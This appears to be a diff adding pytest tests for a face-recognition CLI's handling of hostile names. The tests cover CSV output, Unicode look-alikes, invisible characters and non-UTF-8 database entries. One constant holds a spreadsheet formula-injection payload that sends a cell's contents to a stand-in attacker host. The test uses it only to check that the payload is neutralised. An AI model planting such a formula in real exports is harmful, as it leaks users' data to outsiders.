@@ -1,0 +1,48 @@
+"""What a name or a file name can carry: spreadsheet formulas through --csv, names that print alike (issue 24)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import sqlite3
+
+from tests.helpers import json_rows, one_line_error
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
+def _csv(stdout: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(stdout, newline="")))
+
+
+def test_csv_cells_never_start_a_formula_and_json_is_unchanged(run, images):
+    assert run("enroll", FORMULA, str(images / "obama.jpg")).returncode == 0
+    assert run("enroll", "--", "-1 +2 @3", str(images / "biden.jpg")).returncode == 0
+    listed = _csv(run("gallery", "list", "--csv").stdout)
+    assert sorted(r["name"] for r in listed) == sorted(["'" + FORMULA, "'-1 +2 @3"])
+    found = _csv(run("identify", str(images / "obama2.jpg"), "--csv", "--top-k", "2").stdout)[0]
+    assert found["name"] == "'" + FORMULA and found["candidates_0_name"] == "'" + FORMULA
+    assert float(found["distance"]) >= 0  # numbers stay numbers
+    assert {r["name"] for r in json_rows(run("gallery", "list", "--json").stdout)} == {FORMULA, "-1 +2 @3"}
+
+
+def test_names_that_print_alike_are_one_person_or_refused(run, images):
+    nfc, nfd = "Jos\u00e9", "Jose\u0301"
+    assert run("enroll", nfc, str(images / "obama.jpg")).returncode == 0
+    claim = run("verify", str(images / "obama2.jpg"), "--claim", nfd, "--json")
+    assert claim.returncode == 0 and json_rows(claim.stdout)[0]["claim"] == nfc
+    one_line_error(run("enroll", nfc + "\u034f", str(images / "biden.jpg")), "invisible")
+    one_line_error(run("enroll", "J\u043es\u00e9", str(images / "biden.jpg")), "looks like 'Jos\\xe9'")
+    assert [r["name"] for r in json_rows(run("gallery", "list", "--json").stdout)] == [nfc]
+
+
+def test_gallery_check_names_what_another_tool_wrote(run, images):
+    assert run("enroll", "alice", str(images / "obama.jpg")).returncode == 0
+    with sqlite3.connect(run.gallery) as conn:
+        conn.execute("INSERT INTO persons (name, created) VALUES (CAST(x'ff6576' AS TEXT), 0)")  # not UTF-8
+        conn.execute("INSERT INTO persons (name, created) VALUES (?, 0)", ("nul\x00name",))
+    check = run("gallery", "check", "--json")
+    problems = json_rows(check.stdout)[0]["problems"]
+    assert check.returncode == 1 and "Traceback" not in check.stderr
+    assert "person name b'\\xffev' is not UTF-8" in problems
+    assert "person 'nul\\x00name': a name cannot hold control, formatting or invisible characters" in problems
